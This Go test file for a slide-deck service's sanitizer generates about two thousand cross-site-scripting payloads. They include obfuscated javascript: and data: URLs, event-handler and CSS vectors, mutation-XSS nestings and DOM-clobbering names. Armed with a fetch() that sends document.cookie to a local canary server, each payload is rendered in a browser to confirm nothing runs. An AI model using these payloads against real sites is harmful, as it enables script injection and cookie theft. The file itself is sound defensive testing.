package rest_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"catena/decks"
	"catena/rest"
	"catena/rest/resttest"
)

// schemed are addresses that run a script, as they are hidden.
func schemed() []string {
	return []string{
		"javascript:HIT", "JaVaScRiPt:HIT", " javascript:HIT", "\x01javascript:HIT", "java\tscript:HIT", "java\nscript:HIT", "java\rscript:HIT",
		"java&#9;script:HIT", "java&Tab;script:HIT", "java&NewLine;script:HIT", "&#106;avascript:HIT", "&#x6A;avascript:HIT", "&#0000106avascript:HIT",
		"javascript&colon;HIT", "javascript&#58;HIT", "javascript&#x3a;HIT", "java\u00adscript:HIT", "\ufeffjavascript:HIT", "javascript://%0aHIT",
		"data:text/html,<script>HIT</script>", "data:text/html;base64,PHNjcmlwdD50b3AuSElUPTE8L3NjcmlwdD4=", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>HIT</script>",
		"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>", "vbscript:HIT", "blob:HIT", "view-source:javascript:HIT", "//CANARY/x", "CANARY",
	}
}

// corpus are attacks on whoever shows a deck, made of elements, attributes, spellings and
// places. HIT is a script, CANARY an address nobody may ask for.
func corpus() (out []string) {
	add := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }
	events := strings.Fields("onabort onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur oncancel oncanplay onchange onclick " +
		"onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondrop onend onended onerror onfocus onfocusin onformdata onhashchange oninput oninvalid " +
		"onkeydown onload onloadeddata onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onpointerover onpopstate onprogress onrepeat onreset " +
		"onresize onscroll onscrollend onselect onsubmit onsuspend ontimeupdate ontoggle ontransitionend onunload onwheel onfuture")
	for i, on := range events {
		add(`<img src=x %s="HIT">`, on)
		add(`<svg %s=HIT><animate %s=HIT attributeName=x dur=1s /></svg>`, on, on)
		add(`<p tabindex=0 autofocus style="animation:x 1s;transition:color 1s" %s%s='HIT'>x</p>`, strings.ToUpper(on), []string{" ", "\t", "\n", "/"}[i%4])
		add(`<video autoplay src=x/%s="HIT"></video>`, on)
		add(`<details open %s=HIT><summary %s=HIT>x</summary></details>`, on, on)
	}
	for _, u := range schemed() {
		for _, place := range []string{
			`<a href="%s" autofocus>x</a>`, `<area href="%s">`, `<iframe src="%s"></iframe>`, `<iframe srcdoc="%s"></iframe>`, `<img src="%s">`, `<img srcset="%s 1x">`,
			`<object data="%s"></object>`, `<embed src="%s">`, `<form action="%s"><input type=submit autofocus></form>`, `<button formaction="%s" form=f>x</button>`,
			`<svg><a href="%s"><text y=9>x</text></a></svg>`, `<svg><a xlink:href="%s"><text y=9>x</text></a></svg>`, `<svg><use href="%s#x"/></svg>`, `<svg><image href="%s"/></svg>`,
			`<svg><a id=a><text y=9>x</text></a><animate href=#a attributeName=href values="%s" /></svg>`, `<svg><a><set attributeName="xlink:href" to="%s"/><text y=9>x</text></a></svg>`,
			`<math href="%s"><mi xlink:href="%[1]s">x</mi></math>`, `<video src="%s" poster="%[1]s" autoplay></video>`, `<link rel=stylesheet href="%s">`, `<link rel=prefetch href="%s">`,
			`<base href="%s">`, `<meta http-equiv=refresh content="0;url=%s">`, `<body background="%s">`, `<section data-background-iframe="%s">x</section>`, `<p data-preview-link="%s">x</p>`,
			`<video><track default src="%s"><source src="%[1]s"></video>`, `<input type=image src="%s">`, `<a href=/x ping="%s">x</a>`, `<svg><script href="%s"></script><feImage href="%[1]s"/></svg>`,
			`<div data-markdown><script type="text/template">[x](%s) ![y](%[1]s) <%[1]s></script></div>`, `<div data-markdown="%s"></div>`, `<p>$$\href{%s}{x}$$</p>`, `<script src="%s"></script>`, `<img data-src="%s">`,
		} {
			add(place, u)
		}
	}
	for _, u := range []string{"CANARY", "javascript:HIT", `data:text/css,*{background:url(CANARY)}`, "//CANARY"} {
		for _, css := range []string{
			`background:url(%s)`, `background:url("%s")`, `background:u\72l(%s)`, `background:\75\72\6c(%s)`, `background:url/**/(%s)`, `list-style:url('%s')`, `content:url(%s)`,
			`cursor:url(%s),auto`, `border-image:url(%s) 30`, `filter:url(%s#x)`, `mask:url(%s)`, `clip-path:url(%s#x)`, `background:image-set("%s" 1x)`, `background:-webkit-image-set(url(%s) 1x)`,
			`behavior:url(%s)`, `-moz-binding:url(%s)`, `width:expression(HIT/*%s*/)`, `--x:url(%s);background:var(--x)`, `shape-outside:url(%s)`, `background:src("%s")`,
		} {
			rule := fmt.Sprintf(css, u)
			add(`<p style='%s'>x</p>`, rule)
			add(`<style>p,body,*{%s}</style><p>x</p>`, rule)
		}
		add(`<style>@import "%s";</style>`, u)
		add(`<style>@import url(%s);</style>`, u)
		add(`<style>@\69mport '%s';</style>`, u)
		add(`<style>@font-face{font-family:x;src:url(%s)}*{font-family:x}</style>`, u)
		add(`<style>@namespace url(%s);@document url(%[1]s){}</style>`, u)
		add(`<svg><rect fill="url(%s#x)" filter="url(%[1]s#y)" mask="url(%[1]s)" clip-path="url(%[1]s)" width=9 height=9 /></svg>`, u)
	}
	out = append(out, mutants()...)
	for _, name := range strings.Fields("body head documentElement querySelector getElementById cookie location forms images createElement currentScript Reveal catena options addEventListener parent top self") {
		add(`<img name=%s><form name=%[1]s><input name=%[1]s></form><a id=%[1]s><a id=%[1]s name=x href="CANARY">`, name)
		add(`<object name=%s></object><embed name=%[1]s><iframe name=%[1]s srcdoc="<script>HIT</script>"></iframe>`, name)
	}
	return out
}

// mutants are attacks that only begin to act when a browser writes them down and reads them
// again: what is text in one place is an element in another.
func mutants() (out []string) {
	outer := []string{
		"%s", "<svg>%s</svg>", "<math>%s</math>", "<svg><desc>%s</desc></svg>", "<svg><foreignObject>%s</foreignObject></svg>", "<svg><title>%s</title></svg>", "<math><mtext>%s</mtext></math>",
		`<math><annotation-xml encoding="text/html">%s</annotation-xml></math>`, "<math><mtext><table><mglyph>%s", "<form><math><mtext></form><form><mglyph>%s", "<svg></p>%s", "<math></p>%s",
		"<template>%s</template>", "<table>%s</table>", "<select>%s</select>", "<ul><li><table><tr>%s", "<b><p><i></b>%s", "<noscript>%s</noscript>", "<svg><style>%s</style></svg>", "<p><svg><![CDATA[%s]]></svg>",
	}
	inner := []string{
		"<style><!--</style><img src=x onerror=HIT>-->", "<style><a title=\"</style><img src=x onerror=HIT>\">", "<title><a id=\"</title><img src=x onerror=HIT>\">",
		"<textarea><a id=\"</textarea><img src=x onerror=HIT>\">", "<noembed><a id=\"</noembed><img src=x onerror=HIT>\">", "<xmp><a id=\"</xmp><img src=x onerror=HIT>\">", "<noscript><p title=\"</noscript><img src=x onerror=HIT>\">",
		"<iframe><a id=\"</iframe><img src=x onerror=HIT>\">", "<plaintext><img src=x onerror=HIT>", "<listing>&lt;img src=x onerror=HIT&gt;</listing>", "<!--><img src=x onerror=HIT>-->",
		"<!--x--!><img src=x onerror=HIT>-->", "<![CDATA[><img src=x onerror=HIT>]]>", "<?x ><img src=x onerror=HIT>?>", "</p title=><img src=x onerror=HIT>", "<img alt=\"`><script>HIT</script>\" src=`x`onerror=HIT``>",
		"<script>HIT</script>", "<script\n/x>HIT</script\t>", "<scr<script>ipt>HIT</scr</script>ipt>", "&lt;script&gt;HIT&lt;/script&gt;", "<svg/onload=HIT//", "<img src='x'onerror=HIT a=\"", "<input autofocus onfocus=HIT><x tabindex=1 onfocus=HIT>",
		"<script type=\"text/template\"></script ><script>HIT</script>", "<script type=\"text/template\"><!--<script></script><script>HIT</script>--></script>", "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=HIT&gt;\">", "<select><template><img src=x onerror=HIT></template></select>",
		"<isindex type=image src=1 onerror=HIT><keygen autofocus onfocus=HIT>", "<frameset onload=HIT><frame src='javascript:HIT'></frameset>", "<a is=x href='javascript:HIT'><portal src='CANARY'></portal><fencedframe src='CANARY'></fencedframe>",
	}
	for _, o := range outer {
		for _, i := range inner {
			out = append(out, fmt.Sprintf(o, i))
		}
	}
	return out
}

// TestBrowserCorpus writes about two thousand attacks into decks and shows what is left of
// them: in a page that holds nothing back, where no script may run and nothing navigate, and
// as viewers see decks, where nothing may be asked for either.
func TestBrowserCorpus(t *testing.T) {
	var heard sync.Map
	var asked atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		heard.Store(r.URL.String(), true)
	}))
	t.Cleanup(canary.Close)
	s := resttest.Start(t, resttest.Config{Ops: decks.Ops, Repo: decks.Listen, Rest: func(c *rest.Config) { c.Limits.Rate = -1 }})
	s.User("alice")
	makeDeck(t, s, map[string]any{"title": "try", "data": "<section>x</section>"})
	all := corpus()
	slices.Sort(all)
	all = slices.Compact(all)
	var kept []string
	refused := 0
	for i, attack := range all {
		script := fmt.Sprintf("top.HIT%[1]d=1;self.HIT%[1]d=1;fetch('%[2]s/script/%[1]d?'+document.cookie)", i, canary.URL)
		armed := strings.NewReplacer("HIT", script, "//CANARY", strings.TrimPrefix(canary.URL, "http:"), "CANARY", fmt.Sprintf("%s/%d", canary.URL, i)).Replace(attack)
		a := s.Do("PATCH", "/v1/decks/1", jsonOf(t, map[string]string{"data": "<section>" + armed + "</section>"}), "as", "alice")
		switch a.StatusCode {
		case http.StatusOK:
			kept = append(kept, a.JSON(t)["data"].(map[string]any)["data"].(string))
		case http.StatusUnprocessableEntity:
			refused++
		default:
			t.Fatalf("%s: %s %s", attack, a.Status, a.Text)
		}
	}
	t.Logf("%d attacks, %d refused", len(all), refused)
	if len(all) < 1900 || len(kept) < len(all)/2 {
		t.Fatalf("%d attacks, %d kept: the test does not test much", len(all), len(kept))
	}
	b := browse(t, s)
	ran := `Object.keys(window).filter((k) => k.startsWith("HIT")).join(" ")`
	check := func(what string) {
		t.Helper()
		if got := eval[string](b, ran); got != "" {
			t.Errorf("%s: ran %s", what, got)
		}
		heard.Range(func(address, _ any) bool {
			if a := address.(string); strings.HasPrefix(a, "/script") || what != "bare page" {
				t.Errorf("%s: asked for %s", what, a)
			}
			return true
		})
	}

	// A page without any policy: what is kept is read as text, as a document, and again as the browser wrote it down.
	bare := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Set-Cookie", "secret=1")
		if r.URL.Path == "/" {
			fmt.Fprint(w, "<!doctype html><title>bare</title><body></body>")
		}
	}))
	t.Cleanup(bare.Close)
	b.base = bare.URL
	b.open("/")
	shown := eval[int](b, `(async () => {
		let n = 0;
		const body = document.body, make = document.createElement.bind(document); // names of elements may hide both
		for (const html of `+jsonOf(t, kept)+`) {
			const at = make("div");
			body.append(at);
			at.innerHTML = html;
			at.innerHTML = at.innerHTML;
			for (const e of at.querySelectorAll("[tabindex],[autofocus],a,summary,details,input,button")) {
				e.focus?.();
				const to = (e.getAttribute("href") ?? e.getAttribute("xlink:href") ?? "").trim(); // links may lead elsewhere
				if (!/^(https?:|mailto:|tel:|[/]|x$)/i.test(to) && !e.closest("form")) e.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
				e.dispatchEvent(new Event("toggle"));
			}
			if (++n % 100 === 0) {
				await new Promise((r) => setTimeout(r, 30));
				body.replaceChildren();
			}
		}
		await new Promise((r) => setTimeout(r, 100));
		return n;
	})()`)
	if shown != len(kept) {
		t.Errorf("%d of %d were shown: something navigated", shown, len(kept))
	}
	check("bare page")
	b.base = s.URL
	heard.Clear()
	b.signIn("alice")
	asked.Store(0)
	// What hides names from scripts keeps its own deck from starting, and is shown above.
	kept = slices.DeleteFunc(kept, func(html string) bool { return strings.Contains(html, "name=") })
	for part := range slices.Chunk(kept, 500) {
		path := makeDeck(t, s, map[string]any{"title": "attacks", "data": strings.Join(part, "\n"), "visibility": "all"})
		b.open(path + "/fullscreen")
		b.wait(`!!window.Reveal?.isReady?.()`)
		n := eval[int](b, `(async () => {
			const all = Reveal.getSlides();
			for (const [i, s] of all.entries()) {
				const at = Reveal.getIndices(s);
				if (i % 4 === 0) Reveal.slide(at.h, at.v ?? 0); // its neighbours are loaded with it
				if (i % 40 === 0) await new Promise((r) => setTimeout(r, 1));
			}
			return all.length;
		})()`)
		if n < len(part)/2 {
			t.Errorf("%d slides of %d attacks", n, len(part))
		}
		check("viewer")
	}
}
